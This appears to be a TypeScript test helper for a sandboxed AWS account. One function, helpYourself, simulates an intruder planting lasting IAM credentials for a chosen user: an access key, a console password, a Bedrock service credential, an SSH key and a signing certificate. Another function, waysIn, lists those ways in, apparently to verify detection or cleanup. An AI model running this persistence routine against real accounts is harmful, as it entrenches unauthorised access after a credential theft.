/** What a thief makes, to come back when the first credential no longer works. */
import {
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreateServiceSpecificCredentialCommand,
  GetLoginProfileCommand,
  type IAMClient,
  ListAccessKeysCommand,
  UploadSigningCertificateCommand,
  UploadSSHPublicKeyCommand,
} from '@aws-sdk/client-iam';
import type { Credentials } from './deployment.ts';
import { otherStatuses } from './other-credentials.ts';

/** IAM takes it unread in the sandbox. */
export const certificate = '-----BEGIN CERTIFICATE-----\nMIIBExample\n-----END CERTIFICATE-----';

/** One credential of each kind that lasts, for a user of the thief's choice; returns the access key. */
export async function helpYourself(thief: IAMClient, UserName: string): Promise<Credentials> {
  const { AccessKey } = await thief.send(new CreateAccessKeyCommand({ UserName }));
  const SSHPublicKeyBody = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample thief';
  await thief.send(new CreateLoginProfileCommand({ UserName, Password: 'correct-horse-battery-9' }));
  await thief.send(new CreateServiceSpecificCredentialCommand({ UserName, ServiceName: 'bedrock.amazonaws.com' }));
  await thief.send(new UploadSSHPublicKeyCommand({ UserName, SSHPublicKeyBody }));
  await thief.send(new UploadSigningCertificateCommand({ UserName, CertificateBody: certificate }));
  return { accessKeyId: AccessKey?.AccessKeyId ?? '', secretAccessKey: AccessKey?.SecretAccessKey ?? '' };
}

/** Everything by which somebody can get in as this user, as IAM shows it to the account itself. */
export async function waysIn(iam: IAMClient, UserName: string) {
  const [{ AccessKeyMetadata = [] }, password, others] = await Promise.all([
    iam.send(new ListAccessKeysCommand({ UserName })),
    iam.send(new GetLoginProfileCommand({ UserName })).then(
      () => 'set' as const,
      () => 'none' as const,
    ),
    otherStatuses(iam, UserName),
  ]);
  const keys = AccessKeyMetadata.map(({ AccessKeyId = '' }) => AccessKeyId).toSorted();
  return { keys, password, others: Object.values(others).flatMap(Object.keys).length };
}
